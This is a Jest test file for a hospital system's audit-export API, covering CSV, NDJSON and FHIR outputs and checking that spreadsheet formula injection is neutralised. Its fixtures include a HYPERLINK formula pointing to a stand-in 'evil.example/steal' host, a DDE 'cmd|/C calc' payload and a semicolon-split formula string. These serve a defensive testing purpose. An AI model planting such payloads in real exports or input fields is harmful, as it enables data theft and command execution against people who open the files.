import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { uuidv7 } from '@hms/ddd';
import type { Response } from 'supertest';
import { bearer, tokenFor, type UserWithTokens } from '../support/auth.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { appendAll, insertOutboxEvents } from './support/audit-store.js';
import { csvObjects, parseCsv } from './support/parse-csv.js';
import { textBody } from '../support/text-body.js';

/** More than one page of the export (500 entries per query), so the stream is stitched from several reads. */
const BULK = 1_234;
const FORMULA_REASON = '=HYPERLINK("http://evil.example/steal","Open the chart")';
const FORMULA_AGENT = '+SUM(1+1)*cmd|/C calc';
/** Harmless at its start, but a semicolon-locale spreadsheet splits it into formula cells. */
const SEMICOLON_AGENT = 'Mozilla;=1+2;@SUM(A1)';
/** One record whose every field is quoted. */
const ALL_QUOTED_RECORD = /^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/;

interface FhirResource {
  readonly id: string;
  readonly entity: { readonly detail?: { type: string; valueString: string }[] }[];
  readonly [field: string]: unknown;
}

/** The download parser below collects every body as text, whatever its content type. */
const asText = (res: Response) => res.body as string;

describe('audit exports', () => {
  let t: TestApp;
  let auditor: UserWithTokens;
  let grantId: string;
  let semicolonGrantId: string;
  const patient = uuidv7();
  const prefix = `export-${uuidv7()}`;

  const download = (query: string) =>
    t.http().get(`/api/v1/audit/export?${query}`).set('Authorization', bearer(auditor.accessToken)).buffer(true).parse(textBody);

  beforeAll(async () => {
    t = await startTestApp({ env: { RATE_LIMIT_MAX: '100000' } });
    auditor = await tokenFor(t, 'auditor');
    const doctor = await tokenFor(t, 'doctor');
    // Free text that reaches the trail: a break-the-glass reason, and a user agent.
    const grant = await t
      .http()
      .post('/api/v1/auth/emergency-access')
      .set('Authorization', bearer(doctor.accessToken))
      .set('User-Agent', FORMULA_AGENT)
      .send({ patientId: patient, reason: FORMULA_REASON });
    expect(grant.status).toBe(201);
    grantId = grant.body.grantId as string;
    const semicolonGrant = await t
      .http()
      .post('/api/v1/auth/emergency-access')
      .set('Authorization', bearer(doctor.accessToken))
      .set('User-Agent', SEMICOLON_AGENT)
      .send({ patientId: uuidv7(), reason: 'Unconscious on arrival' });
    expect(semicolonGrant.status).toBe(201);
    semicolonGrantId = semicolonGrant.body.grantId as string;
    await insertOutboxEvents(t, BULK, { prefix, type: 'test.BulkArchived.v1' });
    await appendAll(t);
  });
  afterAll(() => t.close());

  it('streams CSV (RFC 4180) with formula cells neutralised', async () => {
    const res = await download(`format=csv&resourceType=EmergencyAccessGrant&resourceId=${grantId}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toBe('attachment; filename="audit-events.csv"');
    const [row] = csvObjects(asText(res));
    expect(row).toMatchObject({ type: 'auth.EmergencyAccessGranted.v1', action: 'emergency-access', patientId: patient });
    expect(row.reason).toBe(`'${FORMULA_REASON}`);
    expect(row.userAgent).toBe(`'${FORMULA_AGENT}`);
    // The payload column is JSON, which starts with a brace and keeps the reason as it was given.
    expect(JSON.parse(row.change)).toMatchObject({ reason: FORMULA_REASON, patientId: patient });
    expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('quotes every cell and neutralises formula characters after a separator', async () => {
    const res = await download(`format=csv&resourceType=EmergencyAccessGrant&resourceId=${semicolonGrantId}`);
    expect(res.status).toBe(200);
    const text = asText(res);
    // Read with `;` as the separator, no piece of the agent may start with a formula character.
    expect(text).toContain(`"Mozilla;'=1+2;'@SUM(A1)"`);
    expect(csvObjects(text)[0].userAgent).toBe("Mozilla;'=1+2;'@SUM(A1)");
    const records = text.split('\r\n').filter((line) => line !== '');
    expect(records).toHaveLength(2);
    for (const record of records) expect(record).toMatch(ALL_QUOTED_RECORD);
  });

  it('streams every matching entry as CSV, oldest first, across many reads', async () => {
    const res = await download('format=csv&type=test.BulkArchived.v1');
    expect(res.status).toBe(200);
    // Written as it is read: no length is known up front.
    expect(res.headers['content-length']).toBeUndefined();
    const records = parseCsv(asText(res));
    expect(records[0]).toEqual(
      expect.arrayContaining(['sequence', 'eventId', 'occurredAt', 'actorId', 'reason', 'change', 'hash']),
    );
    const rows = csvObjects(asText(res));
    expect(rows).toHaveLength(BULK);
    const sequences = rows.map((r) => Number(r.sequence));
    expect(sequences).toEqual([...sequences].sort((a, b) => a - b));
    expect(new Set(rows.map((r) => r.resourceId)).size).toBe(BULK);
  });

  it('streams NDJSON, one entry per line, in the order asked', async () => {
    const res = await download(`format=ndjson&type=test.BulkArchived.v1&order=desc`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const text = asText(res);
    expect(text.endsWith('\n')).toBe(true);
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { sequence: number; eventId: string });
    expect(lines).toHaveLength(BULK);
    const sequences = lines.map((l) => l.sequence);
    expect(sequences).toEqual([...sequences].sort((a, b) => b - a));
    // Each line is the same entry the API gives one at a time.
    const one = await t.http().get(`/api/v1/audit/events/${lines[17].eventId}`).set('Authorization', bearer(auditor.accessToken));
    expect(lines[17]).toEqual(one.body);
  });

  it('streams a FHIR R4 Bundle of AuditEvent resources', async () => {
    const res = await download(`format=fhir&type=test.BulkArchived.v1`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/fhir+json; charset=utf-8');
    const bundle = JSON.parse(asText(res)) as {
      resourceType: string;
      type: string;
      timestamp: string;
      entry: { fullUrl: string; resource: FhirResource }[];
    };
    expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'collection', timestamp: expect.any(String) });
    expect(bundle.entry).toHaveLength(BULK);
    const [first] = bundle.entry;
    expect(first.fullUrl).toBe(`urn:uuid:${first.resource.id}`);
    expect(first.resource).toMatchObject({
      resourceType: 'AuditEvent',
      type: { code: 'rest' },
      subtype: [{ code: 'test.BulkArchived.v1' }],
      action: 'E',
      outcome: '0',
      recorded: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
      agent: [{ who: { identifier: { system: 'urn:hms:system', value: 'bulk-test' } }, requestor: true }],
      source: { observer: { display: 'HMS' } },
    });
    const details = first.resource.entity[0].detail ?? [];
    expect(details.map((d) => d.type)).toEqual(expect.arrayContaining(['change', 'sequence', 'hash', 'prevHash']));

    const grant = JSON.parse(
      asText(await download(`format=fhir&resourceType=EmergencyAccessGrant&resourceId=${grantId}`)),
    ) as typeof bundle;
    expect(grant.entry[0].resource).toMatchObject({
      action: 'E',
      purposeOfEvent: [{ coding: [{ code: 'BTG' }], text: FORMULA_REASON }],
      entity: expect.arrayContaining([expect.objectContaining({ what: { reference: `Patient/${patient}` } })]),
    });
  });

  it('gives an empty but well-formed file when nothing matches', async () => {
    const none = `type=NothingLikeThis`;
    expect(parseCsv(asText(await download(`format=csv&${none}`)))).toHaveLength(1);
    expect(asText(await download(`format=ndjson&${none}`))).toBe('');
    expect(JSON.parse(asText(await download(`format=fhir&${none}`)))).toMatchObject({ resourceType: 'Bundle', entry: [] });
  });
});
